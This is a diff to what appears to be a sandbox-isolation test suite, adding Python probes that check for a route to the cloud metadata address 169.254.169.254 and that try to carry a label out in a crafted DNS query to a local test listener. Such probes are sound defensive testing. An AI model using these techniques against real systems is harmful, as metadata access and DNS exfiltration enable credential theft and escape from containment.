@@ -50,6 +50,34 @@ except OSError: pass`,
     `
 if len(open("/proc/net/tcp").readlines()) > 1 or len(socket.if_nameindex()) > 1: won()`,
   ),
+  {
+    ...reach(
+      'A6',
+      'find a way to the metadata service of a cloud (169.254.169.254)',
+      'shared-network',
+      `
+try:
+  # No packet is sent: the kernel says whether there is a way.
+  socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("169.254.169.254", 80)); won()
+except OSError: pass`,
+    ),
+    needsRoute: true,
+  },
+  {
+    ...reach(
+      'B2',
+      'carry a secret out in a question to a name server',
+      'shared-network',
+      `
+label = ("leak%d" % os.getpid()).encode()
+question = b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label + b"\\7invalid\\0\\0\\1\\0\\1"
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+try: s.sendto(question, ("127.0.0.1", w["udpPort"])); s.recv(10)
+except OSError: pass
+print(label.decode(), flush=True)`,
+    ),
+    judge: ({ stdout }, world) => stdout.trim() !== '' && world.heard().includes(stdout.trim()),
+  },
   reach(
     'B3',
     'connect to an abstract socket of the host',
